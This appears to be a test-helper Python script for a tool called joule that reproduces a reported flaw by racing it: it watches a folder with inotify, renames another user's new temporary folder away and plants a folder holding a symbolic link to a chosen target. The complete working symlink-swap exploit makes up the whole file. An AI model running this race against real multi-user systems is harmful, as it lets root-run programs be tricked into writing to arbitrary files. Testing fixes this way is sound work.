#!/usr/bin/env python3
"""The attack of issue 51 on a private temporary, as another user would run it: watch FOLDER with
inotify; the moment a folder named .NAME.joule-* of another user (joule's, not one this script
made) appears, rename it away and put a folder of our own in its place holding NAME as a symbolic
link to TARGET. Prints "swapped ENTRY" for each temporary swapped, at once (the test waits for it),
and at the end how many. Runs until STOP_FILE exists or the deadline passes. Standard library only
(ctypes for inotify).

usage: swap_temporary.py FOLDER NAME TARGET STOP_FILE [SECONDS]
"""
import ctypes
import os
import select
import struct
import sys
import time

IN_CREATE, IN_MOVED_TO, IN_ISDIR = 0x100, 0x80, 0x40000000


def main():
    folder, name, target, stop_file = sys.argv[1:5]
    deadline = time.monotonic() + (float(sys.argv[5]) if len(sys.argv) > 5 else 300)
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(os.O_NONBLOCK)
    if fd < 0 or libc.inotify_add_watch(fd, folder.encode(), IN_CREATE | IN_MOVED_TO) < 0:
        print("swap_temporary: inotify failed: errno", ctypes.get_errno())
        return 2
    prefix = "." + name + ".joule-"
    swaps = 0
    with open(os.path.join(folder, ".watching"), "w"):
        pass  # the test waits for this before it starts joule
    while time.monotonic() < deadline and not os.path.exists(stop_file):
        ready, _, _ = select.select([fd], [], [], 0.05)
        if not ready:
            continue
        try:
            data = os.read(fd, 65536)
        except BlockingIOError:
            continue
        at = 0
        while at + 16 <= len(data):
            _wd, mask, _cookie, length = struct.unpack_from("iIII", data, at)
            entry = data[at + 16:at + 16 + length].rstrip(b"\0").decode(errors="replace")
            at += 16 + length
            if not (mask & IN_ISDIR) or not entry.startswith(prefix):
                continue
            path = os.path.join(folder, entry)
            stolen = os.path.join(folder, ".stolen-%d" % swaps)
            try:
                # inotify reports the folder this script puts in a temporary's place too: only
                # another user's folder is a temporary of joule's (it runs as root here).
                if os.lstat(path).st_uid == os.getuid():
                    continue
                os.rename(path, stolen)
            except OSError:
                continue  # gone already: the writer was done with it
            swaps += 1
            print("swapped %s" % entry, flush=True)
            try:
                os.mkdir(path, 0o777)
                os.symlink(target, os.path.join(path, name))
                os.chmod(path, 0o700)
            except OSError:
                pass
    print("swap_temporary: %d swaps of another user's temporaries" % swaps)
    return 0


if __name__ == "__main__":
    sys.exit(main())
